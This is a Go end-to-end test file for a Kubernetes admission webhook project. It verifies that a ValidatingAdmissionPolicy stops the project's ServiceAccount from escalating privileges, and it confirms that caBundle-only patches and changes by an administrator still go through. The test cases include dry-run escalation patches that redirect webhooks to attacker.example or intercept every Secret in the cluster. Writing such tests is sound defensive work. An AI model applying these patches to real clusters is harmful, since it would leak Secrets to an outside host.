//go:build e2e

package e2e

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/podguard/podguard/certs"
	"github.com/podguard/podguard/e2e/framework"
)

const (
	// caOnlyPolicy is the ValidatingAdmissionPolicy (and its binding) of
	// components/self-managed that holds podguard's ServiceAccount to
	// caBundle.
	caOnlyPolicy = "podguard-webhook-ca-only"
	// caOnlyDenied starts every message of that policy.
	caOnlyDenied = "podguard's ServiceAccount may only change webhooks[*].clientConfig.caBundle"
)

// TestSelfManagedCannotEscalate acts as podguard's ServiceAccount, with the
// RBAC of overlays/self-managed/opt-in, against its webhook configurations.
// Without the overlay's ValidatingAdmissionPolicy, it can turn its own
// validating webhook into one that receives every Secret written in the
// cluster (issue 11, item 5). With it, every change but caBundle is refused
// with the policy's message, a caBundle-only patch (podguard's own, and a
// JSON patch) is accepted, an administrator may still change anything, and
// even with RBAC widened to create, update and delete any webhook
// configuration, the ServiceAccount can create and delete none.
func TestSelfManagedCannotEscalate(t *testing.T) {
	ctx := testContext(t, 3*time.Minute)
	objs, err := framework.RenderOverlay(filepath.Join(repoRoot, "deploy", "overlays", "self-managed", "opt-in"))
	if err != nil {
		t.Fatal(err)
	}
	port, err := framework.FreePort()
	if err != nil {
		t.Fatal(err)
	}
	if err := framework.PointWebhooksAt(objs, fmt.Sprintf("https://127.0.0.1:%d", port), nil); err != nil {
		t.Fatal(err)
	}
	var policy, rest []*unstructured.Unstructured
	for _, o := range objs {
		if strings.HasPrefix(o.GetKind(), "ValidatingAdmissionPolicy") {
			policy = append(policy, o)
		} else {
			rest = append(rest, o)
		}
	}
	if len(policy) != 2 {
		t.Fatalf("the overlay has %d ValidatingAdmissionPolicy objects, want a policy and its binding", len(policy))
	}
	t.Cleanup(func() {
		ctx, cancel := cleanupContext()
		defer cancel()
		if err := framework.DeleteObjects(ctx, cluster.Client, objs); err != nil {
			t.Errorf("uninstalling: %v", err)
		}
	})
	if err := framework.ApplyObjects(ctx, cluster.Client, rest); err != nil {
		t.Fatal(err)
	}
	sa := serviceAccountClient(t)
	validating := sa.AdmissionregistrationV1().ValidatingWebhookConfigurations()
	mutating := sa.AdmissionregistrationV1().MutatingWebhookConfigurations()
	dryRun := metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}

	// The escalation of the issue, as podguard's ServiceAccount: a rule for
	// Secrets, in every namespace.
	secretsRule := `[
		{"op": "add", "path": "/webhooks/0/rules/-", "value": {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["secrets"]}},
		{"op": "add", "path": "/webhooks/0/namespaceSelector", "value": {}}]`
	if _, err := validating.Patch(ctx, "podguard", types.JSONPatchType, []byte(secretsRule), dryRun); err != nil {
		t.Fatalf("without the policy, RBAC alone must allow the escalation (the test would prove nothing otherwise): %v", err)
	}

	if err := framework.ApplyObjects(ctx, cluster.Client, policy); err != nil {
		t.Fatal(err)
	}
	waitForCAOnlyPolicy(t, sa)
	// The API server type-checks a policy's expressions against the schemas
	// of what it matches, and reports what it finds in its status.
	var vap *admissionregistrationv1.ValidatingAdmissionPolicy
	eventually(t, 30*time.Second, "the API server type-checks "+caOnlyPolicy, func() (bool, error) {
		vap, err = cluster.Clientset.AdmissionregistrationV1().ValidatingAdmissionPolicies().Get(ctx, caOnlyPolicy, metav1.GetOptions{})
		return err == nil && vap.Status.TypeChecking != nil, err
	})
	if w := vap.Status.TypeChecking.ExpressionWarnings; len(w) > 0 {
		t.Errorf("the API server's type checking warns of the policy's expressions: %+v", w)
	}

	ns, err := cluster.Clientset.CoreV1().Namespaces().Get(ctx, "podguard-system", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	refused := []struct {
		name   string
		mutate bool   // the MutatingWebhookConfiguration, else the Validating one
		patch  string // a JSON patch
		want   string // in the message, after caOnlyDenied
	}{
		{"a Secrets rule with an empty namespaceSelector", false, secretsRule, "webhooks[validate.podguard.io].rules, webhooks[validate.podguard.io].namespaceSelector"},
		{"a Secrets rule", true, `[{"op": "add", "path": "/webhooks/0/rules/-", "value": {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["secrets"]}}]`, "webhooks[mutate.podguard.io].rules"},
		{"an empty namespaceSelector", true, `[{"op": "add", "path": "/webhooks/0/namespaceSelector", "value": {}}]`, "webhooks[mutate.podguard.io].namespaceSelector"},
		{"an objectSelector", false, `[{"op": "add", "path": "/webhooks/0/objectSelector", "value": {"matchLabels": {"a": "b"}}}]`, "webhooks[validate.podguard.io].objectSelector"},
		{"failurePolicy Ignore", false, `[{"op": "add", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}]`, "webhooks[validate.podguard.io].failurePolicy"},
		{"failurePolicy Fail", true, `[{"op": "add", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]`, "webhooks[mutate.podguard.io].failurePolicy"},
		{"another URL", false, `[{"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example/validate"}]`, "webhooks[validate.podguard.io].clientConfig.url"},
		{"a Service instead of the URL", true, `[{"op": "remove", "path": "/webhooks/0/clientConfig/url"}, {"op": "add", "path": "/webhooks/0/clientConfig/service", "value": {"namespace": "default", "name": "attacker", "port": 443}}]`, "webhooks[mutate.podguard.io].clientConfig.url, webhooks[mutate.podguard.io].clientConfig.service"},
		{"the URL and the caBundle together", false, `[{"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example/validate"}, {"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": "` + testCABundle(t) + `"}]`, "webhooks[validate.podguard.io].clientConfig.url"},
		{"matchConditions", false, `[{"op": "add", "path": "/webhooks/0/matchConditions", "value": [{"name": "always", "expression": "true"}]}]`, "webhooks[validate.podguard.io].matchConditions"},
		{"matchPolicy", true, `[{"op": "add", "path": "/webhooks/0/matchPolicy", "value": "Exact"}]`, "webhooks[mutate.podguard.io].matchPolicy"},
		{"timeoutSeconds", false, `[{"op": "add", "path": "/webhooks/0/timeoutSeconds", "value": 30}]`, "webhooks[validate.podguard.io].timeoutSeconds"},
		{"sideEffects", false, `[{"op": "add", "path": "/webhooks/0/sideEffects", "value": "None"}]`, "webhooks[validate.podguard.io].sideEffects"},
		{"admissionReviewVersions", true, `[{"op": "add", "path": "/webhooks/0/admissionReviewVersions", "value": ["v1", "v1beta1"]}]`, "webhooks[mutate.podguard.io].admissionReviewVersions"},
		{"reinvocationPolicy", true, `[{"op": "add", "path": "/webhooks/0/reinvocationPolicy", "value": "Never"}]`, "webhooks[mutate.podguard.io].reinvocationPolicy"},
		{"a second webhook", false, `[{"op": "copy", "from": "/webhooks/0", "path": "/webhooks/-"}, {"op": "replace", "path": "/webhooks/2/name", "value": "secrets.attacker.example"}]`, "not add, remove, rename or reorder webhooks: [validate.podguard.io, state.podguard.io] became [validate.podguard.io, state.podguard.io, secrets.attacker.example]"},
		{"no webhook", true, `[{"op": "remove", "path": "/webhooks/0"}]`, "not add, remove, rename or reorder webhooks: [mutate.podguard.io] became []"},
		{"a renamed webhook", false, `[{"op": "replace", "path": "/webhooks/0/name", "value": "secrets.attacker.example"}]`, "[validate.podguard.io, state.podguard.io] became [secrets.attacker.example, state.podguard.io]"},
		{"a label", false, `[{"op": "add", "path": "/metadata/labels/podguard.io~1attacker", "value": "x"}]`, "not metadata.labels"},
		{"an annotation", true, `[{"op": "add", "path": "/metadata/annotations", "value": {"cert-manager.io/inject-ca-from": "podguard-system/attacker"}}]`, "not metadata.annotations"},
		{"a finalizer", false, `[{"op": "add", "path": "/metadata/finalizers", "value": ["podguard.io/attacker"]}]`, "not metadata.finalizers"},
		{"an ownerReference", true, `[{"op": "add", "path": "/metadata/ownerReferences", "value": [{"apiVersion": "v1", "kind": "Namespace", "name": "podguard-system", "uid": "` + string(ns.UID) + `"}]}]`, "not metadata.ownerReferences"},
	}
	for _, tt := range refused {
		t.Run("refuses "+tt.name, func(t *testing.T) {
			var err error
			if tt.mutate {
				_, err = mutating.Patch(ctx, "podguard", types.JSONPatchType, []byte(tt.patch), dryRun)
			} else {
				_, err = validating.Patch(ctx, "podguard", types.JSONPatchType, []byte(tt.patch), dryRun)
			}
			refusedByCAOnlyPolicy(t, err, caOnlyDenied, tt.want)
		})
	}

	// What podguard itself sends (certs.SelfManaged.ensureBundle), and a
	// JSON patch of caBundle alone, are accepted.
	bundle := testCABundle(t)
	for _, kind := range []string{"MutatingWebhookConfiguration", "ValidatingWebhookConfiguration"} {
		t.Run("accepts podguard's caBundle patch of the "+kind, func(t *testing.T) {
			var rv string
			var names []string
			var patch func([]byte, types.PatchType, metav1.PatchOptions) error
			if kind == "MutatingWebhookConfiguration" {
				c, err := mutating.Get(ctx, "podguard", metav1.GetOptions{})
				if err != nil {
					t.Fatal(err)
				}
				rv = c.ResourceVersion
				for _, w := range c.Webhooks {
					names = append(names, w.Name)
				}
				patch = func(p []byte, pt types.PatchType, o metav1.PatchOptions) error {
					_, err := mutating.Patch(ctx, "podguard", pt, p, o)
					return err
				}
			} else {
				c, err := validating.Get(ctx, "podguard", metav1.GetOptions{})
				if err != nil {
					t.Fatal(err)
				}
				rv = c.ResourceVersion
				for _, w := range c.Webhooks {
					names = append(names, w.Name)
				}
				patch = func(p []byte, pt types.PatchType, o metav1.PatchOptions) error {
					_, err := validating.Patch(ctx, "podguard", pt, p, o)
					return err
				}
			}
			// Every webhook of the configuration, as ensureBundle sends.
			var webhooks []any
			for _, name := range names {
				webhooks = append(webhooks, map[string]any{"name": name, "clientConfig": map[string]any{"caBundle": bundle}})
			}
			strategic, err := json.Marshal(map[string]any{
				"metadata": map[string]any{"resourceVersion": rv},
				"webhooks": webhooks,
			})
			if err != nil {
				t.Fatal(err)
			}
			if err := patch(strategic, types.StrategicMergePatchType, metav1.PatchOptions{FieldManager: "podguard"}); err != nil {
				t.Fatalf("podguard's own caBundle patch was refused: %v", err)
			}
			jsonPatch := `[{"op": "remove", "path": "/webhooks/0/clientConfig/caBundle"}]`
			if err := patch([]byte(jsonPatch), types.JSONPatchType, dryRun); err != nil {
				t.Fatalf("a JSON patch removing caBundle was refused: %v", err)
			}
		})
	}
	if err := webhooksTrust(ctx, mustDecodeBase64(t, bundle)); err != nil {
		t.Errorf("after the caBundle patches: %v", err)
	}

	t.Run("an administrator may change anything", func(t *testing.T) {
		if _, err := cluster.Clientset.AdmissionregistrationV1().ValidatingWebhookConfigurations().Patch(ctx, "podguard", types.JSONPatchType, []byte(secretsRule), dryRun); err != nil {
			t.Errorf("the policy refused the administrator: %v", err)
		}
	})

	// The check the README gives an administrator: RBAC says yes to the
	// patch, and only a server-side dry run shows the policy refusing it.
	t.Run("the README's kubectl check", func(t *testing.T) {
		kubectl := filepath.Join(repoRoot, "bin", "kubectl")
		as := "--as=system:serviceaccount:podguard-system:podguard"
		out, err := exec.CommandContext(ctx, kubectl, "--kubeconfig", cluster.KubeconfigPath, "auth", "can-i", as,
			"patch", "validatingwebhookconfigurations/podguard").Output()
		if err != nil || strings.TrimSpace(string(out)) != "yes" {
			t.Errorf("kubectl auth can-i: %v: %s; want yes (RBAC allows the patch; the policy is not authorization)", err, out)
		}
		out, err = exec.CommandContext(ctx, kubectl, "--kubeconfig", cluster.KubeconfigPath, "patch", as,
			"validatingwebhookconfiguration", "podguard", "--dry-run=server", "--type=json",
			"-p", `[{"op":"add","path":"/webhooks/0/rules/-","value":{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE","UPDATE"],"resources":["secrets"]}}]`).CombinedOutput()
		want := "ValidatingAdmissionPolicy 'podguard-webhook-ca-only' with binding 'podguard-webhook-ca-only' denied request: " + caOnlyDenied + " of a webhook configuration, not webhooks[validate.podguard.io].rules"
		if err == nil || !strings.Contains(string(out), want) {
			t.Errorf("kubectl patch --dry-run=server: %v: %s\nwant the output to contain %q", err, out, want)
		}
		t.Logf("kubectl patch --dry-run=server: %s", out)
	})

	// RBAC is the first line; the policy holds even if it is widened.
	t.Run("with RBAC widened, still no create or delete", func(t *testing.T) {
		widenRBAC(t, "create", "update", "patch", "delete", "get")
		wide := sa.AdmissionregistrationV1().ValidatingWebhookConfigurations()
		create := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
		url := "https://attacker.example/secrets"
		evil := &admissionregistrationv1.ValidatingWebhookConfiguration{
			ObjectMeta: metav1.ObjectMeta{Name: "attacker"},
			Webhooks: []admissionregistrationv1.ValidatingWebhook{{
				Name:                    "secrets.attacker.example",
				ClientConfig:            admissionregistrationv1.WebhookClientConfig{URL: &url},
				Rules:                   []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create}, Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}}}},
				SideEffects:             ptr.To(admissionregistrationv1.SideEffectClassNone),
				AdmissionReviewVersions: []string{"v1"},
			}},
		}
		eventually(t, 10*time.Second, "the widened RBAC lets the ServiceAccount reach admission", func() (bool, error) {
			_, err := wide.Create(ctx, evil, create)
			return !isRBACForbidden(err), nil
		})
		_, err := wide.Create(ctx, evil, create)
		refusedByCAOnlyPolicy(t, err, "podguard's ServiceAccount may not create or delete webhook configurations")
		err = wide.Delete(ctx, "podguard", metav1.DeleteOptions{DryRun: []string{metav1.DryRunAll}})
		refusedByCAOnlyPolicy(t, err, "podguard's ServiceAccount may not create or delete webhook configurations")
		// An update (PUT) is held like a patch.
		c, err := wide.Get(ctx, "podguard", metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		c.Webhooks[0].FailurePolicy = ptr.To(admissionregistrationv1.Ignore)
		_, err = wide.Update(ctx, c, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
		refusedByCAOnlyPolicy(t, err, caOnlyDenied, "webhooks[validate.podguard.io].failurePolicy")
	})
}

// waitForCAOnlyPolicy waits until the API server enforces caOnlyPolicy: it
// loads policies from a watch, a moment after they are created.
func waitForCAOnlyPolicy(t *testing.T, sa kubernetes.Interface) {
	t.Helper()
	probe := []byte(`[{"op": "add", "path": "/webhooks/0/timeoutSeconds", "value": 29}]`)
	var last error
	eventually(t, 30*time.Second, "the API server enforces "+caOnlyPolicy, func() (bool, error) {
		_, last = sa.AdmissionregistrationV1().ValidatingWebhookConfigurations().Patch(t.Context(), "podguard", types.JSONPatchType, probe, metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
		return last != nil && strings.Contains(last.Error(), caOnlyPolicy), nil
	})
	t.Logf("enforced: %v", last)
}

// refusedByCAOnlyPolicy asserts that err is caOnlyPolicy's refusal, with
// every want in its message.
func refusedByCAOnlyPolicy(t *testing.T, err error, wants ...string) {
	t.Helper()
	if err == nil {
		t.Fatal("accepted; want a refusal by " + caOnlyPolicy)
	}
	msg := err.Error()
	if !apierrors.IsForbidden(err) || !strings.Contains(msg, "ValidatingAdmissionPolicy '"+caOnlyPolicy+"'") {
		t.Fatalf("want a refusal by ValidatingAdmissionPolicy %s, got: %v", caOnlyPolicy, err)
	}
	for _, w := range wants {
		if !strings.Contains(msg, w) {
			t.Errorf("the refusal does not contain %q:\n%s", w, msg)
		}
	}
}

// isRBACForbidden reports whether err is RBAC's refusal, not admission's.
func isRBACForbidden(err error) bool {
	return apierrors.IsForbidden(err) && strings.Contains(err.Error(), "cannot ")
}

// serviceAccountClient is a client authenticated as podguard's
// ServiceAccount, with the groups a token of it would have.
func serviceAccountClient(t *testing.T) kubernetes.Interface {
	t.Helper()
	kubeconfig, err := cluster.ServiceAccountKubeconfig("podguard-system", "podguard")
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := clientcmd.BuildConfigFromFlags("", kubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	return kubernetes.NewForConfigOrDie(cfg)
}

// widenRBAC grants podguard's ServiceAccount verbs on every webhook
// configuration, until the test ends.
func widenRBAC(t *testing.T, verbs ...string) {
	t.Helper()
	ctx := testContext(t, time.Minute)
	name := "podguard-e2e-widened"
	role := &rbacv1.ClusterRole{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		Rules: []rbacv1.PolicyRule{{
			APIGroups: []string{admissionregistrationv1.GroupName},
			Resources: []string{"mutatingwebhookconfigurations", "validatingwebhookconfigurations"},
			Verbs:     verbs,
		}},
	}
	binding := &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name},
		Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: "podguard-system", Name: "podguard"}},
	}
	rbac := cluster.Clientset.RbacV1()
	if _, err := rbac.ClusterRoles().Create(ctx, role, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := cleanupContext()
		defer cancel()
		_ = rbac.ClusterRoleBindings().Delete(ctx, name, metav1.DeleteOptions{})
		_ = rbac.ClusterRoles().Delete(ctx, name, metav1.DeleteOptions{})
	})
	if _, err := rbac.ClusterRoleBindings().Create(ctx, binding, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// testCABundle returns a CA certificate, PEM, base64-encoded as in JSON.
func testCABundle(t *testing.T) string {
	t.Helper()
	ca, err := certs.NewCA("podguard-e2e-policy", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(ca.CertPEM)
}

func mustDecodeBase64(t *testing.T, s string) []byte {
	t.Helper()
	b, err := base64.StdEncoding.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestNetworkPolicyComponentApplies sends the NetworkPolicy of
// components/network-policy to the API server (a dry run: this cluster has no
// network plugin to enforce it). As shipped, its placeholder ipBlock is
// refused, so it can neither lock the API server out nor pass for
// protection; filled in as the README says, it is accepted.
func TestNetworkPolicyComponentApplies(t *testing.T) {
	ctx := testContext(t, time.Minute)
	objs, err := framework.ReadManifests(filepath.Join(repoRoot, "deploy", "components", "network-policy", "networkpolicy.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	if len(objs) != 1 || objs[0].GetKind() != "NetworkPolicy" {
		t.Fatalf("want one NetworkPolicy, got %d objects", len(objs))
	}
	np := objs[0]
	np.SetNamespace(newNamespace(t, "netpol", nil))
	err = cluster.Client.Create(ctx, np.DeepCopy(), client.DryRunAll)
	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "FILL-IN-THE-API-SERVER-SOURCE-CIDR") {
		t.Errorf("the placeholder: got %v, want the API server to refuse it as no CIDR", err)
	}
	ingress, _, _ := unstructured.NestedSlice(np.Object, "spec", "ingress")
	from := ingress[0].(map[string]any)["from"].([]any)
	from[0].(map[string]any)["ipBlock"].(map[string]any)["cidr"] = "10.0.0.0/28"
	if err := unstructured.SetNestedSlice(np.Object, ingress, "spec", "ingress"); err != nil {
		t.Fatal(err)
	}
	if err := cluster.Client.Create(ctx, np.DeepCopy(), client.DryRunAll); err != nil {
		t.Errorf("filled in: %v", err)
	}
}
